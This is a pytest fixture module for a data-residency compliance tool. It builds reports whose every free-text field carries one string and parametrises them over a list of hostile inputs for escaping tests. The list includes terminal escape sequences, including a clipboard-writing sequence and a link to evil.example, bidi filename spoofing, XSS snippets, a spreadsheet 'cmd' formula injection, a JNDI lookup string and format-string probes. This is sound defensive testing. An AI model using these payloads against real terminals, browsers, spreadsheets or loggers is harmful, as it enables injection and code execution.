"""Reports built by hand, with any text in every place that text can come from."""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, date, datetime

import pytest

from residency.model.claim import (
    Activity,
    Claim,
    ClaimSource,
    HostRule,
)
from residency.model.evidence import Assurance, Evidence, Kind, Snapshot, Statement
from residency.model.names import HostPattern
from residency.model.period import Period
from residency.model.place import Place
from residency.model.verdict import (
    ClaimResult,
    ClaimResults,
    Finding,
    Findings,
    InputRecord,
    Observed,
    Outcome,
    QuarantinedRecord,
    Reason,
    Report,
    Shares,
    Tally,
    Verdict,
    Where,
    Yield,
)

NOW = datetime(2026, 6, 1, 12, 0, 0, 250_000, tzinfo=UTC)
MakeReport = Callable[[str], Report]


def _finding(text: str, number: int, outcome: Outcome) -> Finding:
    seen = Observed(
        group=number,
        server_ip="20.1.1.1",
        server_form="native",
        server_port=443,
        proto="tcp",
        host=text,
        named_by="sni",
        answered=True,
        period=0,
        vantage=text,
        rtt_kind=None,
        records=1,
        flows=3,
        bytes_sent=1_234_567,
        bytes_received=None,
        sent_unknown=0,
        received_unknown=3,
        first=NOW,
        last=NOW,
    )
    said = Statement(
        kind=Kind.DECLARED,
        source="s1",
        author=text,
        says=text,
        places=frozenset({Place("US", provider_region="aws/us-east-1")}),
        listed=(date(2026, 6, 1), date(2026, 6, 1)),
    )
    struck = Evidence(statement=said, lineage=text, struck=text, echo=text, days_from_flow=3)
    return Finding(
        id=f"F-{number:012x}",
        claim="acme.eu",
        seen=seen,
        period=Period(None, None),
        role="data",
        outcome=outcome,
        missing_link=text,
        place=Where.OUTSIDE,
        assurance=Assurance.DECLARED,
        feasible=(Place("US", provider_region="aws/us-east-1"),),
        excluded=("CN",),
        rules=("R112", "R206"),
        evidence=(Evidence(statement=said, lineage=text, days_from_flow=0), struck),
        sides=("outside", "neither"),
        network="20.1.1.0/24",
    )


def build(text: str) -> Report:
    claim = Claim(
        id="acme.eu",
        statement=text,
        activity=Activity.STORAGE,
        vendor=text,
        allow=("EEA",),
        forbid=("HU",),
        subjects=("EEA",),
        parties=(text,),
        effective=Period(NOW, None),
        hosts=(HostRule(pattern=HostPattern("*.acme.example")),),
        sources=(ClaimSource(url=text, published=date(2026, 1, 1), kind="first_party"),),
    )
    outcomes = {outcome: Tally() for outcome in Outcome}
    findings = [_finding(text, i, outcome) for i, outcome in enumerate(Outcome)]
    for finding in findings:
        outcomes[finding.outcome] += Tally.of(finding.seen)
    result = ClaimResult(
        claim=claim,
        could=Yield(could_violate=True, could_confirm=False, reasons=(Reason(rule="R331", text=text),)),
        verdict=Verdict.VIOLATED,
        assurance=Assurance.DECLARED,
        headline=f"violated (declared): {text}",
        reasons=(Reason(rule="R301", text=text),),
        outcomes=outcomes,
        coverage=Shares(flows=0.125, bytes_sent=None),
        unnamed=Tally(endpoints=1, flows=2),
        not_observed=text,
        as_connection=Verdict.INCONCLUSIVE,
        notes=(text,),
    )
    return Report(
        tool_version="1.2.3",
        as_of=NOW,
        headline=text,
        inputs=(
            InputRecord(
                path=text, sha256="0" * 64, format="csv", records=24, judged=24, out_of_scope=0, quarantined=0,
                duplicate=0, context=0,
            ),
        ),
        quarantine=(
            QuarantinedRecord(path=text, line=3, offset=None, reason=text, value=text),
            QuarantinedRecord(path="a.pcap", line=None, offset=24, reason="cut"),
        ),
        snapshots=(
            Snapshot(
                id="s1", kind="declared", name=text, author=text, built=date(2026, 6, 1), sha256="0" * 64, licence=text
            ),
        ),
        claims=ClaimResults([result]),
        findings=Findings(findings),
        warnings=(text,),
        first_seen=NOW,
        last_seen=NOW,
        options={"clients": text},
    )  # fmt: skip


@pytest.fixture(scope="session")
def make_report() -> MakeReport:
    """Build a report whose every free text is the given one."""
    return build


BASE = [
    "",
    "plain.example",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b31m",
    "a\rb",
    "a\nb",
    "a\tb",
    "a\x0bb\x0cc\x08d\x07e",
    "a\x00b",
    "\x7f",
    "\x85next line",
    "line\u2028separator\u2029",
    "user\u202egnp.exe",
    "\u2066isolate\u2069",
    "zero\u200bwidth\u200d\ufeff",
    "soft\u00adhyphen",
    "lone\ud800surrogate",
    "pair\udcffescape",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "</script>",
    "=cmd|' /C calc'!A0",
    "+1",
    "@SUM(A1)",
    "-2",
    "[bold red]markup[/]",
    "[link=https://evil.example]x[/link]",
    ":smile:",
    "${jndi:ldap://x}",
    "%s%n",
    "{0.__class__}",
    "x" * 10_000,
    "many words " * 500,
    "界" * 300,
    "e\u0301" * 200,
    "🧑‍🚀" * 50,
    "'\"`\\",
]
HOSTILE = BASE + [f"{a}{b}" for a in BASE[2:12] for b in BASE[12:18]]


@pytest.fixture(params=HOSTILE, ids=[f"{i}-{ascii(t)[:24]}" for i, t in enumerate(HOSTILE)])
def hostile(request: pytest.FixtureRequest) -> str:
    """A text that an attacker put into the traffic, a claim or a path."""
    text: str = request.param
    return text
